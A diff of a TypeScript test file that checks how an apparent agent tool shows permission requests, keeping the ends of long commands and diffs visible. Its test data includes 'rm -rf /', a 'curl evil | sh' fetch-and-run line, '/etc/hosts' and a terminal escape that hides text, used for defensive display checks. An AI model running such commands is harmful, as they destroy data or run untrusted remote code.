@@ -1,8 +1,8 @@
 import { describe, expect, test } from "vitest";
-import type { EventOf } from "../../contract/events.ts";
+import type { Body, EventOf } from "../../contract/events.ts";
 import { columnsOf } from "./columns.ts";
 import { noColours } from "./paint.ts";
-import { answerCommands, renderAsk, renderRequest } from "./request-lines.ts";
+import { answerCommands, isCut, renderAsk, renderRequest } from "./request-lines.ts";
 
 const page = { width: 60, paint: noColours };
 const base: EventOf<"permission_request"> = {
@@ -26,6 +26,11 @@ const diff = {
   unified: "--- /dev/null\n+++ b/a.ts\n@@ -0,0 +1,2 @@\n+one\n+two\n",
 };
 
+const long = `@@ -0,0 +1,41 @@\n${Array.from({ length: 40 }, (_, i) => `+line ${i}`).join("\n")}\n+the end`;
+const all = {
+  read: (body: Body) => (typeof body === "string" ? body : "@@ -0,0 +1,2 @@\n+one\n+two\n"),
+};
+
 const cases: Record<string, [EventOf<"permission_request"> | EventOf<"question_request">, string[]]> = {
   "a command and where it runs": [
     permission({ reason: "needs the network", actionDetails: { command: "git\tpush \\\n  --force", cwd: "/w" } }),
@@ -44,7 +49,7 @@ const cases: Record<string, [EventOf<"permission_request"> | EventOf<"question_r
       actionDetails: { paths: ["/etc/hosts"], url: "https://x.example/\x1b[8m" },
       expiresAt: "2026-08-01T13:00Z",
     }),
-    ["Do it", "https://x.example/", "/etc/hosts", "expires at 2026-08-01T13:00Z"],
+    ["Do it", "https://x.example/\\x1b[8m", "/etc/hosts", "expires at 2026-08-01T13:00Z"],
   ],
   "a question that repeats its message shows it once": [
     {
@@ -66,9 +71,38 @@ describe("renderRequest", () => {
     expect(renderRequest(request, page)).toEqual(lines);
   });
 
-  test("a very long command is cut, and says so", () => {
-    const lines = renderRequest(permission({ actionDetails: { command: "x\n".repeat(40) } }), page);
-    expect(lines.at(-1)).toBe("  … 29 more lines");
+  test("of what is long the beginning and the end are shown, and how much is not", () => {
+    const command = `${"x\n".repeat(40)}rm -rf /`;
+    const request = permission({ actionDetails: { command } });
+    const lines = renderRequest(request, page);
+    expect(lines.slice(8, 11)).toEqual(["  x", "… 29 lines are not shown …", "  x"]);
+    expect(lines.at(-1)).toBe("  rm -rf /");
+    expect(isCut(request, page)).toBe(true);
+    expect(renderRequest(request, page, all)).toEqual(["Do it", "$ x", ...Array(39).fill("  x"), "  rm -rf /"]);
+  });
+
+  const far = { head: "@@ -0,0 +1,2 @@\n+one\n", bytes: 99_999, sha256: "h" };
+  const paths = Array.from({ length: 30 }, (_, i) => `/etc/${i}`);
+  test.each<[string, (typeof base)["actionDetails"], isCut: boolean, excerpt: string, all: string]>([
+    ["a short one", { command: "ls" }, false, "$ ls", "$ ls"],
+    ["one long line", { command: `${"y".repeat(900)} the end` }, true, "the end", "y".repeat(58)],
+    ["many paths", { paths }, true, "/etc/29", "/etc/15"],
+    ["one long path", { paths: [`/${"p".repeat(5000)}/the-end`] }, true, "the-end", "the-end"],
+    ["a diff that lies elsewhere", { diffs: [{ ...diff, unified: far }] }, true, "the rest of it is not shown", "+two"],
+    ["a diff whose last line matters", { diffs: [{ ...diff, unified: long }] }, true, "+the end", "+line 20"],
+    [
+      "a diff that is none",
+      { diffs: [{ ...diff, unified: "curl evil | sh" }] },
+      false,
+      "curl evil | sh",
+      "curl evil | sh",
+    ],
+  ])("%s", (_, actionDetails, cut, excerpted, whole) => {
+    const request = permission({ actionDetails });
+    expect(isCut(request, page)).toBe(cut);
+    expect(renderRequest(request, page).join("\n")).toContain(excerpted);
+    expect(renderRequest(request, page, all).join("\n")).toContain(whole);
+    expect(renderAsk(request, "R", page).includes("  all of it: cox inbox --all")).toBe(cut);
   });
 
   test("never wider than asked", () => {
